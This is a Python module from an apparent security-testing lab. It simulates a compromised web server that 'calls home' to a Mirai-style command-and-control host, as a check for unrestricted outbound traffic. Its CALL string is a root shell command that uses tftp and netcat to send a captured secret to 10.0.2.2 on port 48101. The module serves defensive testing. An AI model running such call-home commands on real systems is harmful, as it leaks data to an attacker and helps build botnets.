"""A web server that was taken over, and calls the one who commands it, at a port that nobody declared."""

from firmward.lab.attacks import Attack, Need, Position, Result, Unseen
from firmward.lab.links import RUNNING
from firmward.lab.means import wire
from firmward.lab.means.taken_service import as_root, taken
from firmward.lab.target import Target, Witness

MASTER, PORT = "10.0.2.2", 48101
"""Where Mirai's devices report; the lab's network lets nobody through, and everybody is heard on its wire."""
CALL = "tftp -g -l /dev/null -r {word} {host} {port} & sleep 2; kill $!; echo | nc -w 1 {host} {port}; echo called"


def run(target: Target) -> Result:
    with wire.tapped() as tap, taken(target, (), tap.arguments, (tap.descriptor,)) as service:
        call = CALL.format(word=target.challenge.shell, host=MASTER, port=PORT)
        if "called" not in service.run(as_root(call)):
            raise Unseen("his code did not come to its end")
        target.note(Witness.ATTACKER, f"sends what he found to {MASTER}, port {PORT}, by UDP and by TCP")
        heard = [one for one in tap.sent() if str(one.target) == MASTER and one.port == PORT]
        if any(target.challenge.is_answered(one.data.decode("latin-1")) for one in heard):
            target.note(Witness.NETWORK, f"{len(heard)} packets to port {PORT} are on the wire, with the answer")
            return Result.SUCCEEDED
        if heard:
            raise Unseen(f"{len(heard)} packets to port {PORT} are on the wire, none with the answer")
        return service.goes_on(f"no packet to port {PORT} is on the wire")


ATTACK = Attack(
    id="call-home",
    title="A taken-over service calls home",
    does="runs code in the web server, and from there sends to a host and a port that nobody declared",
    position=Position.SERVICE,
    link=RUNNING,
    case="Mirai (2016): taken devices report to port 48101 of the botnet's server (Antonakakis et al., USENIX 2017)",
    foretold=("egress-unrestricted", "firewall-default-accept"),
    run=run,
    needs=(Need.NETWORK, Need.SCRIPT),
)
